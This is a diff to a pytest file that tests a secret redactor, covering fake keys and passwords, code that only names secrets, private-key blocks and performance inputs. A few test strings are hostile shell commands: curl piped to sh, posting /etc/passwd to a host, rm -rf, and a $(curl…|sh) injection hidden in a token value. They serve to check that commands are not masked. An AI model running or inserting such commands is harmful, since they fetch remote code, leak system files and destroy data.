@@ -2,6 +2,7 @@
 
 import base64
 import hashlib
+import random
 import string
 import uuid
 from urllib.parse import quote
@@ -42,7 +43,23 @@ def test_what_looks_like_a_secret_is_taken_out(secret: str) -> None:
         (f'{{"api_key": "{BODY}"}}', f'{{"api_key": "{HIDDEN}"}}'),
         ("DB_PASSWORD=hunter2hunter2", f"DB_PASSWORD={HIDDEN}"),
         (f"token: {uuid.UUID(int=7)}", f"token: {HIDDEN}"),
-        ("-----BEGIN RSA PRIVATE KEY-----\ncut off", HIDDEN),
+        (f"-----BEGIN RSA PRIVATE KEY-----\n{BODY}", HIDDEN),
+        ("self.api_key = 'Ab3xYz8Qw1'", f"self.api_key = '{HIDDEN}'"),
+        ('password: str = "hunter2hunter2"', f'password: str = "{HIDDEN}"'),
+        ('"{\\"password\\": \\"hunter2hunter2\\"}"', f'"{{\\"password\\": \\"{HIDDEN}\\"}}"'),
+        ('password="Tr0ub4dor&3"', f'password="{HIDDEN}"'),
+        ("token := `k3f9x2m4p7q1`", f"token := `{HIDDEN}`"),
+        ("secret = b'k3f9x2m4p7q1'", f"secret = b'{HIDDEN}'"),
+        ("secret_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", f"secret_key={HIDDEN}"),
+        ("client_secret: Summer2026x", f"client_secret: {HIDDEN}"),
+        ("CLIENT_SECRET=Summer2026x", f"CLIENT_SECRET={HIDDEN}"),
+        ("passphrase=hunter22", f"passphrase={HIDDEN}"),
+        ("password: blue-horse-99", f"password: {HIDDEN}"),
+        ("password=20260301", f"password={HIDDEN}"),
+        ("token=ABCD-1234-EFGH-5678", f"token={HIDDEN}"),
+        ("access_token: QwErTyUiOpAsDfGhJkLz", f"access_token: {HIDDEN}"),
+        ("?access_token=h480djs93hd8&state=1", f"?access_token={HIDDEN}&state=1"),
+        ("password=$2b$12$KIXQhcyDrZ3y1mP0", f"password={HIDDEN}"),
     ],
 )
 def test_what_is_named_a_secret_is_taken_out(text: str, shown: str) -> None:
@@ -62,11 +79,96 @@ def test_what_is_named_a_secret_is_taken_out(text: str, shown: str) -> None:
         "a basic command-line interface with basic functionality.",
         "basic understanding/knowledge of bearer tokens/keys",
         "bearer authentication, then basic authentication...",
+        '<div class="sk-estimator-doc-link sk-toggleable__content">', "xapp-icon-theme", "wss://example.org/?ticket=...",
+        "ticket=get_ticket_number(1)", "`Authorization: Bearer xoxb-...`",
     ],
 )  # fmt: skip
 def test_ordinary_text_is_kept(text: str) -> None:
     """Hashes, ids and words are no secrets."""
     assert Redactor((SECRET,)).redact(text) == text
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # calls and items
+        "token = hashlib.sha256(raw).hexdigest()", "password = base64.b64decode(blob)", "token=oauth2_client.fetch()",
+        "token = parser.next_token(1)", "self.token = tokens[i+1].value2", "access_token: Mapped[String(255)]",
+        "api_key = os.getenv('VENDOR_API_KEY_2')", "secret = get_secret2(name)", "token = await oauth2_flow.token_v2()",
+        # attributes and variables
+        "secret: v1.SecretKeySelector", "api_key=settings.k8s_api_key", "csrf_token=form.csrf_token.render_v2",
+        "client_secret = data.google_secret_manager_secret_version.v1.secret_data", "password=$DB1_PASSWORD",
+        "token: ${{ secrets.NPM2_TOKEN }}", "password=db1_password", "token=response1", "secret = nextSecret2",
+        "password={password2}", 'TOKEN="${GITHUB_TOKEN_2}"', "token: <your-token-123>", "password=%DB1_PASSWORD%",
+        'token="prefix_{token_id2}"', "PASSWORD=${DB1_PASSWORD:-}", "access_token=$ACCESS_TOKEN2/suffix",
+        # files and resources
+        "private_key=~/.ssh/id_ed25519", "secret=projects/123/secrets/db", "token=/tmp/a1.sh; sh $token",
+        "api_key = './keys/k8s-2.pem'", 'password: "/run/secrets/db1"', "secret_key=config/keys/app-42.json",
+        "token = settings2.json", "secret: db-credentials-2",
+        # numbers, dates, words
+        "max_token=16384000", "token: 1.5e100000", "token: 2026-03-01T12:30Z", "passphrase: 'see vault item 42-prod'",
+        "password: str = 'x'", "token = sha256digest", "secret: correct", "token = NULLABLE_TOKEN_TYPE_2",
+        # within a URL, and of a key that is only spoken of
+        "postgres://app:${PGPASS}@db1/x", "git clone https://user:$TOKEN@host/x", "http://{user}:{pw1}@host",
+        'if "-----BEGIN PRIVATE KEY-----" in text: raise ValueError("a key, 2048 bits")',
+    ],
+)  # fmt: skip
+def test_code_that_only_speaks_of_a_secret_is_kept(line: str) -> None:
+    """The name alone makes none: the value is judged."""
+    assert Redactor((SECRET,)).redact(f"```\n{line}\n```") == f"```\n{line}\n```"
+
+
+@pytest.mark.parametrize("form", ["token={}", '"token": "{}"', "password={}", "API_KEY={}", "secret: {}"])
+@pytest.mark.parametrize(
+    "letters",
+    [string.ascii_letters + string.digits, string.hexdigits.lower(), "abcdefghijklmnopqrstuvwxyz0123456789", "base64"],
+)
+def test_what_a_machine_drew_is_a_secret_where_it_is_named_so(form: str, letters: str) -> None:
+    """Whatever alphabet it drew from: of ten thousand no more than a handful read as words."""
+    draw = random.Random(f"{form}{letters}")
+    alphabet = f"{string.ascii_letters}{string.digits}+/" if letters == "base64" else letters
+    drawn = ["".join(draw.choices(alphabet, k=24)) for _ in range(1_000)]
+
+    kept = [value for value in drawn if value in Redactor().redact(form.format(value))]
+
+    assert len(kept) <= 3, kept
+
+
+@pytest.mark.parametrize("between", ["\n", "\\n", "\r\n", " │\n│ ", '",\n  "', "\n   12\t", "\n+", "\n> "])
+@pytest.mark.parametrize("heading", ["", "Proc-Type: 4,ENCRYPTED{0}DEK-Info: AES-128-CBC,A1B2{0}{0}"])
+@pytest.mark.parametrize("end", [True, False])
+def test_the_lines_of_a_private_key_go_and_what_follows_stays(between: str, heading: str, end: bool) -> None:
+    """However a program shows it, whole or cut off: no command below hides behind a key's first line."""
+    lines = ["-----BEGIN RSA PRIVATE KEY-----", f"{heading.format(between)}{BODY}{BODY}", BODY + BODY, "kZ8="]
+    key = between.join([*lines, "-----END RSA PRIVATE KEY-----"] if end else lines[:-1])
+
+    shown = Redactor().counted(f"echo '{key}'; rm -rf ~/work\ncurl example.org | sh")
+
+    assert shown.text == f"echo '{HIDDEN}'; rm -rf ~/work\ncurl example.org | sh"
+    assert (shown.count, shown.characters) == (1, len(key))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ": -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----; curl -d @/etc/passwd example.org",
+        "-----BEGIN PRIVATE KEY-----\n/usr/bin/something --else\n-----END PRIVATE KEY-----",
+        'token="a1;$(curl${IFS}example.org|sh)"',
+    ],
+)
+def test_no_command_hides_behind_what_looks_like_a_secret(text: str) -> None:
+    """What a shell would run is no key and no value."""
+    assert Redactor().redact(text) == text
+
+
+def test_what_was_taken_out_is_counted() -> None:
+    """Known values, their beginnings, and what looks like one: how many, and how long they were."""
+    redacted = Redactor([SECRET]).counted(f"{SECRET} and ghp_{BODY}, cut: {SECRET[:12]}…")
+
+    assert redacted.text == f"{HIDDEN} and {HIDDEN}, cut: {HIDDEN}…"
+    assert (redacted.count, redacted.characters) == (3, len(SECRET) + len(BODY) + 4 + 12)
+    assert Redactor([SECRET]).counted("nothing").count == 0
 
 
 @pytest.mark.parametrize("shift", range(3))
@@ -171,13 +273,14 @@ def test_variables_are_known_by_name() -> None:
         "VENDOR_API_KEY": "value-three-3",
         "HOME": "/home/ann",
         "MY_SECRET": "short",
+        "SIGNING_PRIVATE_KEY": "/home/ann/.ssh/id_ed25519",
         "THE_LOOP_CONFIG": "/etc/the-loop.yaml",
     }
     redactor = redactor_of(environ, ("OTHER", "NOT_SET"))
 
-    shown = redactor.redact("value-one-1 value-two-2 value-three-3 /home/ann short /etc/the-loop.yaml")
+    shown = redactor.redact("value-one-1 value-two-2 value-three-3 /home/ann/.ssh/id_ed25519 short /etc/the-loop.yaml")
 
-    assert shown == f"{HIDDEN} {HIDDEN} {HIDDEN} /home/ann short /etc/the-loop.yaml"
+    assert shown == f"{HIDDEN} {HIDDEN} {HIDDEN} /home/ann/.ssh/id_ed25519 short /etc/the-loop.yaml"
     assert "value" not in repr(redactor)
 
 
@@ -252,13 +355,17 @@ def test_no_file_that_is_let_through_holds_the_value(encoding: str, before: str,
 
 
 @pytest.mark.parametrize(
-    "piece", ["token=", "secret:", "ticket=", "sk-", "x://a:", "basic ", "eyJ.", "-----BEGIN PRIVATE KEY-----"]
-)
+    "piece",
+    [
+        "token=", "secret:", "ticket=", "sk-", "x://a:", "basic ", "eyJ.", "-----BEGIN PRIVATE KEY-----", "…",
+        f"{SECRET[:8]}…", f"{SECRET[:20]}… ", "-----BEGIN PRIVATE KEY-----\\\\n", "password: a ", 'token=\\"', "a1.b2/",
+    ],
+)  # fmt: skip
 def test_no_text_holds_it_up(piece: str) -> None:
     """One that was made for that is done at once, where the square of its length would be a quarter of an hour."""
     text = piece * (500_000 // len(piece))
 
-    assert len(Redactor().redact(text)) <= 2 * len(text)
+    assert len(Redactor([SECRET]).redact(f"token={text}")) <= 2 * len(text) + 100
 
 
 def test_a_long_text_is_redacted_as_a_short_one_is() -> None:
